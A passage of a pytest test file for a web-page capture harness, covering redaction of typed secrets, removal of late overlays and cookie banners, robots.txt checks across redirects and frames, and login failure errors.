    assert (said.state, "1 pictures, 1 canvases" in said.detail) == ("skipped", True)
    rows = json.loads(capture.artifacts["accessibility.json"])
    told = "".join(str(row.get("name", "")) + str(row.get("value", "")) for row in rows).lower()
    LocalStore(tmp_path).put(capture)
    stored = stored_in(tmp_path).lower()
    for spelled in (word.lower(), "canary", card[:4] + " ", ">c</span>", 'value="c"'):
        assert spelled not in told
        assert spelled.encode() not in stored, spelled
    assert "pa55" not in print_of(capture)


def test_what_could_not_be_looked_through_is_not_pictured(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    site.pages |= {"/x": STORY + f"<p>{SESSION}</p>"}
    whole = layout.script

    def broken(name: str) -> str:
        return "() => { throw new Error('a page in the way') }" if name == "scrub.js" else whole(name)

    monkeypatch.setattr("harness.capture.visit.script", broken)
    capture = _visited_as_somebody(site, "x", print_pdf=True)
    assert not [name for name in capture.artifacts if name.endswith((".png", ".jpg", ".pdf"))]
    assert any("could not be looked through" in limit for limit in capture.limits)
    assert "1,500 soldiers" in text_of(capture)


def test_what_comes_or_moves_over_the_page_late_is_cleared_too(site: Site) -> None:
    asks = """<div class="cookie-consent" style="position:fixed;inset:10% 5%;background:#fc8;z-index:9"><p>We use cookies</p>
        <button onclick="this.parentNode.remove();document.title='refused'">Reject all</button></div>"""
    news = """<div class=news style="position:fixed;inset:20%;background:#8cf;z-index:9"><p>Get our newsletter</p><input></div>"""
    moves = "<style>@keyframes m{{from{{{}}}to{{{}}}}} .news{{animation:m 4s 1s both}}</style>"
    dialog = "<dialog id=d style='width:80%'><p>The table: 1,214 troops in the east.</p></dialog><button id=open onclick='d.showModal()'>Open</button>"
    site.pages |= {
        "/waited": STORY + f"<script>setTimeout(() => document.body.insertAdjacentHTML('beforeend', `{asks}`), 1500); setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<b id=here>here</b>'), 2500)</script>",
        "/slides": STORY + moves.format("transform:translateY(250%)", "transform:none") + news,
        "/fades": STORY + moves.format("opacity:0", "opacity:1") + news,
        "/opened": STORY + dialog,
        "/held": STORY.replace("<article>", "<article id=a style='visibility:hidden'>")
        + f"<script>setTimeout(() => document.body.insertAdjacentHTML('beforeend', `{asks.replace('document.title', 'a.style.visibility=String();document.title')}`), 2200)</script>",
    }  # fmt: skip
    waited = visit(site, "http://a.test/waited", (step(StepKind.WAIT_FOR, "#here"),))
    assert (waited.outcome, waited.title) == (Outcome.COMPLETE, "refused")
    assert "before.jpg" in waited.artifacts
    slides, fades, held = site.capture(*(f"http://a.test/{p}" for p in ("slides", "fades", "held")), per_host=3)
    for capture in (slides, fades):
        assert "newsletter" not in text_of(capture)
        assert [s.detail for s in capture.steps if s.name == "overlay"] == ["taken away: Get our newsletter"]
    assert (held.outcome, held.title) == (Outcome.COMPLETE, "refused")
    assert "1,500 soldiers" in text_of(held)
    # What a declared step opened is what it was declared for.
    opened = visit(site, "http://a.test/opened", (step(StepKind.CLICK, "#open"),))
    assert opened.outcome is Outcome.COMPLETE
    assert "1,214 troops" in text_of(opened)


def test_robots_txt_is_asked_wherever_a_page_goes_on_to(site: Site) -> None:
    def to(where: str) -> Answer:
        return _answer("", status=302, Location=where)

    site.pages |= {
        "/robots.txt": lambda h: _answer(
            "User-agent: harness\nDisallow: /private" if "b.test" in h.headers["Host"] else "", "text/plain"
        )(h),
        "/moved": to("/on"),
        "/on": to("http://b.test/private/x"),
        "/refreshed": STORY + "<meta http-equiv=refresh content='0;url=http://b.test/private/x'>",
        "/scripted": STORY + "<script>setTimeout(() => location = 'http://b.test/private/x', 100)</script>",
        "/open": to("http://b.test/story"),
        "/framed": STORY + "<iframe src='http://b.test/private/x'></iframe>",
        "/private/x": STORY,
        "/story": STORY,
    }
    names = ("moved", "refreshed", "scripted", "open", "framed")
    found = dict(zip(names, site.capture(*(f"http://a.test/{n}" for n in names), robots=True, per_host=3), strict=True))
    for name in names[:3]:
        capture = found[name]
        assert capture.outcome is Outcome.ROBOTS, (name, capture.outcome, capture.reasons)
        assert capture.reasons == ("http://b.test/private/x: disallowed by http://b.test/robots.txt",)
    assert found["open"].outcome is Outcome.REDIRECTED_SITE
    assert found["open"].final_url == "http://b.test/story"
    # What a page shows of others is the page's own doing, as are its pictures.
    assert found["framed"].outcome is Outcome.COMPLETE
    assert site.asked.count("b.test/private/x") == 1
    (ignored,) = site.capture("http://a.test/moved")
    assert ignored.final_url == "http://b.test/private/x"


def test_a_login_that_could_not_be_made_is_none(site: Site, tmp_path: Path) -> None:
    (tmp_path / "claims").mkdir()
    site.pages["/x"] = STORY
    place = Place(file="claims/x.yaml", line=1, column=1)
    source = Source(id="s", type=SourceType.WEB, url="http://a.test/x", login=True, place=place)
    environ = {"HARNESS_LOGINS": str(tmp_path / "logins"), "PATH": "", "PLAYWRIGHT_BROWSERS_PATH": "0"}
    settings = load_settings(tmp_path)
    with pytest.raises(NotCheckedError, match="left nothing in the browser"):
        log_in(settings, source, site.settings(), lambda: None, environ, headless=True)
    with pytest.raises(NotCheckedError, match="no browser that opens a window"):
        log_in(settings, source, site.settings(), lambda: None, environ)
    window = tmp_path / "chromium"
    window.write_text("#!/bin/sh\n")
    window.chmod(0o755)
    with pytest.raises(NotCheckedError, match="no desktop"):
        log_in(settings, source, site.settings(), lambda: None, environ | {"PATH": str(tmp_path)})
    assert not (tmp_path / "logins").exists()
